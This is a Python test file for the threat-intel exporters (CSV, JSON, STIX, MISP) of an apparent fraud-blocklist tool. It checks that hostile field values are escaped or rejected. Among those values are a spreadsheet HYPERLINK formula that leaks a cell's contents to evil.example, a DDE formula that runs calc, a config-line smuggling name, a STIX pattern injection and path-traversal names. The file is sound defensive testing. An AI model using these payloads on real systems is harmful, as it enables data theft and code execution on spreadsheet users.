"""The threat-intel exports: CSV, JSON, STIX 2.1 and the MISP feed folder.

Each is read back the way its consumers read it (Python's csv and json modules,
the stix2 library and the OASIS pattern validator, PyMISP), with hostile text
in the free-form fields, and the MISP folder is published atomically.
"""

from __future__ import annotations

import csv
import hashlib
import importlib
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import stix2
from pymisp import MISPEvent
from stix2patterns.validator import run_validator
from stix2validator import ValidationOptions, validate_string

from fraudwall.exceptions import ExportError, VerificationError
from fraudwall.exporters import ExportMeta, export, get_exporter
from fraudwall.exporters.csv_format import FORMULA_STARTS, read_records, split_items
from fraudwall.exporters.json_format import FIELDS, record
from fraudwall.exporters.misp import HASHES, MANIFEST, MispExporter
from fraudwall.exporters.publish import publish_directory
from fraudwall.exporters.record_order import record_key
from fraudwall.exporters.stix import pattern_string
from fraudwall.exporters.validation import PreparedEntries
from fraudwall.models import Action, BlockEntry, Scope

# Free text a feed or a plugin could put in sources and categories: formulas, quotes, escapes, breaks.
HOSTILE_SOURCES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1-2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "it's",
    'say "hi"',
    "back\\slash\\",
    "semi;colon",
    "new\nline",
    "nul\x00byte",
    "\u2028separator\u202e",
    "'quoted",
    "detector:fraud_lexicon",
)
HOSTILE_CATEGORIES = ("investment", "=1+1", 'a"b', "-x")
FIRST_SEEN = datetime(2024, 11, 1, 12, 30, tzinfo=UTC)
# The module, not the function of the same name that fraudwall.exporters exports.
publish_module = importlib.import_module("fraudwall.exporters.publish")


@pytest.fixture
def hostile_entries() -> list[BlockEntry]:
    """Entries whose free-text fields carry everything that breaks naive writers."""
    return [
        BlockEntry("kefu-refund.example.com", sources=HOSTILE_SOURCES, categories=HOSTILE_CATEGORIES,
                   confidence=0.875, first_seen=FIRST_SEEN, last_seen=FIRST_SEEN + timedelta(days=3),
                   expires=FIRST_SEEN + timedelta(days=90), addresses=("8.8.8.8", "127.0.0.1", "bogus")),
        BlockEntry("usdt-invest.example.net", scope=Scope.SUBTREE, categories=("investment",),
                   sources=("list:feed.txt",), addresses=("1.1.1.1", "2606:4700:4700:0:0:0:0:1111")),
        BlockEntry("help.usdt-invest.example.net", action=Action.ALLOW),
        BlockEntry("icbc-verify.github.io", url="https://icbc-verify.github.io/it's/login.html?step=2",
                   categories=("credential_phishing",), sources=("detector:url_heuristics", "new\nline")),
    ]


def ordered_entries(prepared: PreparedEntries) -> list[BlockEntry]:
    """Every prepared entry in record order, the slow and obvious way: one sort of all of them."""
    return sorted((*prepared.blocked, *prepared.allowed, *prepared.urls), key=record_key)


def _export(entries: list[BlockEntry], name: str, out: Path, generated_at: datetime) -> str:
    """Export with verification and return the file's text, line ends as written (as csv wants it)."""
    export(entries, name, out, title="intel test", verify=True, generated_at=generated_at)
    return out.read_bytes().decode("utf-8")


# -- CSV -----------------------------------------------------------------------


def test_csv_round_trips_through_the_csv_module(
    hostile_entries: list[BlockEntry], meta: ExportMeta, tmp_path: Path
) -> None:
    """Python's csv module reads the file back to exactly the records it was written from,
    hostile sources and categories included, with the header row first."""
    text = _export(hostile_entries, "csv", tmp_path / "intel.csv", meta.generated_at)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(FIELDS)
    assert len(rows) == 1 + 4  # header, three names (one an allow), one URL
    exporter = get_exporter("csv")
    expected = [record(entry) for entry in ordered_entries(exporter.prepare(hostile_entries, meta))]
    assert read_records(text) == expected
    kefu = next(item for item in read_records(text) if item["value"] == "kefu-refund.example.com")
    assert kefu["sources"] == list(HOSTILE_SOURCES)
    assert kefu["categories"] == list(HOSTILE_CATEGORIES)
    assert (kefu["confidence"], kefu["first_seen"], kefu["expires"]) == (0.875, "2024-11-01T12:30:00Z",
                                                                         "2025-01-30T12:30:00Z")


def test_csv_neutralises_formula_injection(hostile_entries: list[BlockEntry], meta: ExportMeta) -> None:
    """No cell and no list item starts with = + - @ tab CR LF or NUL: each gets the ``'`` that
    spreadsheets take as "text" and hide."""
    text = get_exporter("csv").render(hostile_entries, meta)
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS
            assert all(item[:1] not in FORMULA_STARTS for item in split_items(cell))
    sources_cell = next(row for row in csv.reader(io.StringIO(text, newline="")) if row[1].startswith("kefu"))[10]
    assert sources_cell.startswith("'=HYPERLINK(") and ";'+1-2;'-2+3;'@SUM(A1:A9);'\t=1+1;'\r=1+1;" in sources_cell


def test_csv_verify_refuses_a_formula_cell(tmp_path: Path, meta: ExportMeta) -> None:
    """A file whose cell would run as a formula (written by anything but the guarded writer) fails verification."""
    exporter = get_exporter("csv")
    text = exporter.render([BlockEntry("fine.example.com", sources=("feed",))], meta)
    path = tmp_path / "tampered.csv"
    path.write_text(text.replace('"feed"', '"=cmd|\' /C calc\'!A0"'), encoding="utf-8")
    with pytest.raises(VerificationError, match="formula"):
        exporter.verify(path, meta)


# -- JSON ----------------------------------------------------------------------


def test_json_round_trip(hostile_entries: list[BlockEntry], meta: ExportMeta, tmp_path: Path) -> None:
    """json.loads gives back title, time, count and the records; one entry per line, because
    unprintable characters (line separators, bidi overrides) are escaped, not written raw."""
    text = _export(hostile_entries, "json", tmp_path / "intel.json", meta.generated_at)
    document = json.loads(text)
    assert list(document) == ["title", "generated_at", "count", "entries"]
    assert (document["title"], document["generated_at"], document["count"]) == ("intel test", "2024-11-25T08:00:00Z", 4)
    exporter = get_exporter("json")
    assert document["entries"] == [record(e) for e in ordered_entries(exporter.prepare(hostile_entries, meta))]
    assert document["entries"][0]["sources"] == list(HOSTILE_SOURCES)
    assert "\u2028" not in text and "\u202e" not in text and "\x00" not in text
    assert len(text.splitlines()) == document["count"] + 2
    assert document["entries"][0]["evidence"] == ["fraudwall:verdicts?host=kefu-refund.example.com"]


def test_json_verify_refuses_a_broken_document(tmp_path: Path, meta: ExportMeta) -> None:
    """A count that lies, an unknown field or a bad name fails verification."""
    exporter = get_exporter("json")
    document = json.loads(exporter.render([BlockEntry("fine.example.com")], meta))
    path = tmp_path / "tampered.json"
    for change in ({"count": 2}, {"extra": 1}):
        path.write_text(json.dumps({**document, **change}), encoding="utf-8")
        with pytest.raises(VerificationError):
            exporter.verify(path, meta)
    text = exporter.render([BlockEntry("fine.example.com"), BlockEntry("other.example.com")], meta)
    path.write_text(text.replace('"fine.example.com"', '"evil.example.com\\nserver=/x/1.2.3.4"'), encoding="utf-8")
    with pytest.raises(VerificationError, match="invalid name"):
        exporter.verify(path, meta)
    lines = text.splitlines(keepends=True)
    path.write_text("".join([lines[0], lines[1], lines[1], *lines[2:]]).replace('"count": 2', '"count": 3'))
    with pytest.raises(VerificationError, match="out of order or repeated"):
        exporter.verify(path, meta)


# -- STIX ----------------------------------------------------------------------


def test_stix_bundle_is_valid_stix(hostile_entries: list[BlockEntry], meta: ExportMeta, tmp_path: Path) -> None:
    """stix2 parses the bundle with no custom content, every pattern passes the OASIS pattern
    validator, and stix2-validator finds no error (its warnings are about uuid5 ids, on purpose)."""
    text = _export(hostile_entries, "stix", tmp_path / "intel.stix.json", meta.generated_at)
    bundle = stix2.parse(text, allow_custom=False, version="2.1")
    indicators = [obj for obj in bundle.objects if obj.type == "indicator"]
    assert len(indicators) == 3  # two names and the URL; the allow entry is an exception, not an indicator
    for item in indicators:
        assert run_validator(item.pattern, stix_version="2.1") == []
        assert item.created_by_ref == bundle.objects[0].id
    assert validate_string(text, ValidationOptions(version="2.1")).is_valid
    kefu = next(item for item in indicators if item.name == "kefu-refund.example.com")
    assert (kefu.confidence, kefu.valid_from, kefu.valid_until) == (88, FIRST_SEEN, FIRST_SEEN + timedelta(days=90))
    assert kefu.indicator_types == ["malicious-activity"]
    assert "\u202e" not in text and all(source in kefu.description for source in ("it's", 'say "hi"', "back\\slash"))


def test_stix_ids_are_stable_across_exports(hostile_entries: list[BlockEntry], tmp_path: Path) -> None:
    """Two exports a day apart give every indicator the same id, so platforms update, not duplicate."""
    first, second = datetime(2024, 11, 25, tzinfo=UTC), datetime(2024, 11, 26, tzinfo=UTC)
    ids = []
    for when in (first, second):
        bundle = json.loads(_export(hostile_entries, "stix", tmp_path / "intel.stix.json", when))
        ids.append(([obj["id"] for obj in bundle["objects"]], bundle["id"]))
    assert ids[0][0] == ids[1][0]
    assert ids[0][1] != ids[1][1]  # the bundle is a new message each time
    alone = json.loads(get_exporter("stix").render([hostile_entries[0]], ExportMeta("x", first)))
    assert alone["objects"][1]["id"] in ids[0][0]


def test_stix_pattern_strings_escape_quote_and_backslash() -> None:
    """``'`` and ``\\`` in a URL are escaped, so the pattern stays one valid comparison of the exact value."""
    value = "https://evil.example/it's\\x'] OR [url:value = 'y"
    pattern = f"[url:value = {pattern_string(value)}]"
    assert run_validator(pattern, stix_version="2.1") == []
    assert pattern == "[url:value = 'https://evil.example/it\\'s\\\\x\\'] OR [url:value = \\'y']"


def test_stix_rejects_entries_that_expire_before_they_are_valid(meta: ExportMeta, tmp_path: Path) -> None:
    """valid_until must follow valid_from: such an entry is rejected as ``expired`` and counted."""
    entries = [BlockEntry("old.example.com", first_seen=FIRST_SEEN, expires=FIRST_SEEN),
               BlockEntry("fine.example.com")]
    result = export(entries, "stix", tmp_path / "x.stix.json", title="t", verify=True, generated_at=meta.generated_at)
    report = json.loads(result.report_path.read_text())
    assert report["rejections"] == {"expired": 1}
    assert {"input": "old.example.com", "reason": "expired"} in report["samples"]
    assert "old.example.com" not in (tmp_path / "x.stix.json").read_text()


# -- MISP ----------------------------------------------------------------------


def _tree(root: Path) -> dict[str, bytes]:
    """Every file below ``root`` by relative path, with its bytes."""
    return {str(path.relative_to(root)): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}


def test_misp_folder_is_what_pymisp_writes(hostile_entries: list[BlockEntry], meta: ExportMeta, tmp_path: Path) -> None:
    """PyMISP loads the event and writes it, its manifest and its hashes.csv exactly as published."""
    out = tmp_path / "misp"
    result = export(hostile_entries, "misp", out, title="intel test", verify=True, generated_at=meta.generated_at)
    names = sorted(path.name for path in out.iterdir())
    event_file = next(name for name in names if name not in (MANIFEST, HASHES))
    assert names == sorted([MANIFEST, HASHES, event_file])
    event = MISPEvent()
    event.load_file(out / event_file)
    assert event_file == f"{event.uuid}.json"
    assert event.to_feed() == json.loads((out / event_file).read_text())
    assert event.manifest == json.loads((out / MANIFEST).read_text())
    assert (out / HASHES).read_text().splitlines() == [f"{md5},{event.uuid}" for md5 in event.attributes_hashes("md5")]
    report = json.loads(result.report_path.read_text())
    assert report["files"][HASHES]["sha256"] == hashlib.sha256((out / HASHES).read_bytes()).hexdigest()


def test_misp_attributes_say_what_they_block(hostile_entries: list[BlockEntry], meta: ExportMeta) -> None:
    """Exact names are hostnames, subtrees domains (narrowed to hostname over an exception), URLs urls;
    resolved global addresses are ip-dst for context only (to_ids false); hostile text is kept, escaped."""
    exporter = MispExporter()
    prepared = exporter.prepare(hostile_entries, meta)
    files = exporter.render_files(prepared, meta)
    event_text = next("".join(pieces) for name, pieces in files.items() if name not in (MANIFEST, HASHES))
    attributes = {a["value"]: a for a in json.loads(event_text)["Event"]["Attribute"]}
    assert {value: (a["type"], a["to_ids"]) for value, a in attributes.items()} == {
        "kefu-refund.example.com": ("hostname", True),
        "usdt-invest.example.net": ("hostname", True),  # subtree narrowed: help.usdt-invest is allowed
        "https://icbc-verify.github.io/it's/login.html?step=2": ("url", True),
        "8.8.8.8": ("ip-dst", False),
        "1.1.1.1": ("ip-dst", False),
        "2606:4700:4700::1111": ("ip-dst", False),
    }
    comment = attributes["kefu-refund.example.com"]["comment"]
    assert all(source in comment for source in HOSTILE_SOURCES)
    assert [tag["name"] for tag in attributes["kefu-refund.example.com"]["Tag"]] == ['fraudwall:category="investment"']
    assert len(event_text.splitlines()) == len(attributes) + 2  # no raw line break inside a value
    notes = exporter.notes(prepared)
    assert any("narrowed" in note and note.endswith(": 1") for note in notes)
    assert any(note.endswith("left out: 2") for note in notes)  # 127.0.0.1 and "bogus"


def test_misp_verify_cross_checks_the_folder(meta: ExportMeta, tmp_path: Path) -> None:
    """The verifier re-reads the folder: a hashes.csv, manifest or event that disagrees, or a stray
    file, fails."""
    out = tmp_path / "misp"
    export([BlockEntry("a.example.com"), BlockEntry("b.example.com")], "misp", out, title="t", verify=True,
           generated_at=meta.generated_at)
    exporter = MispExporter()
    originals = _tree(out)
    tamperings = {
        HASHES: lambda text: text.splitlines(keepends=True)[1],
        MANIFEST: lambda text: text.replace('"timestamp": 1732521600', '"timestamp": 1'),
    }
    for name, tamper in tamperings.items():
        (out / name).write_text(tamper(originals[name].decode()), encoding="utf-8")
        with pytest.raises(VerificationError, match="does not match"):
            exporter.verify(out, meta)
        (out / name).write_bytes(originals[name])
    exporter.verify(out, meta)
    (out / "extra.json").write_text("{}")
    with pytest.raises(VerificationError, match="one event file"):
        exporter.verify(out, meta)


def test_misp_failed_verification_keeps_the_old_folder(
    meta: ExportMeta, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rejected build changes no byte of the folder, its .prev or its report, and leaves nothing behind."""
    out = tmp_path / "misp"
    for name in ("one.example.com", "two.example.com"):
        export([BlockEntry(name)], "misp", out, title="t", verify=True, generated_at=meta.generated_at)
    assert (tmp_path / "misp.prev").is_dir()
    before = _tree(tmp_path)

    def refuse(self: MispExporter, path: Path, meta: ExportMeta) -> None:
        assert (path / HASHES).is_file()  # the verifier sees the complete new folder
        raise VerificationError(f"{path}: refused")

    monkeypatch.setattr(MispExporter, "verify", refuse)
    with pytest.raises(VerificationError):
        export([BlockEntry("three.example.com")], "misp", out, title="t", verify=True, generated_at=meta.generated_at)
    assert _tree(tmp_path) == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["misp", "misp.prev", "misp.report.json"]


# -- publishing a folder ---------------------------------------------------------


def test_publish_directory_swaps_and_keeps_the_previous_folder(tmp_path: Path) -> None:
    """Each publish keeps the folder it replaces as .prev (an older .prev goes), with a report whose
    sha256 is that of the folder's sha256sum listing."""
    path = tmp_path / "feed"
    publish_directory({"a.txt": "v1\n", "gone.txt": "x\n"}, path)
    publish_directory({"a.txt": "v2\n"}, path)
    result = publish_directory({"a.txt": "v3\n"}, path)
    assert _tree(path) == {"a.txt": b"v3\n"}
    assert result.previous_path == tmp_path / "feed.prev" and _tree(result.previous_path) == {"a.txt": b"v2\n"}
    report = json.loads(result.report_path.read_text())
    listing = hashlib.sha256(b"v3\n").hexdigest().encode() + b"  a.txt\n"
    assert report["sha256"] == result.sha256 == hashlib.sha256(listing).hexdigest()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed", "feed.prev", "feed.report.json"]


def test_publish_directory_without_an_atomic_swap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the system cannot swap two names atomically, two renames give the same result."""
    monkeypatch.setattr(publish_module, "_exchange", lambda first, second: False)
    path = tmp_path / "feed"
    publish_directory({"a.txt": "v1\n"}, path)
    publish_directory({"a.txt": "v2\n"}, path)
    assert (_tree(path), _tree(tmp_path / "feed.prev")) == ({"a.txt": b"v2\n"}, {"a.txt": b"v1\n"})


def test_publish_directory_refuses_names_outside_the_folder(tmp_path: Path) -> None:
    """File names are plain names: nothing is written outside the folder, or hidden in it."""
    for name in ("../escape.txt", "sub/dir.txt", ".hidden", ""):
        with pytest.raises(ExportError, match="bad file name"):
            publish_directory({name: "x\n"}, tmp_path / "feed")
    assert list(tmp_path.iterdir()) == []
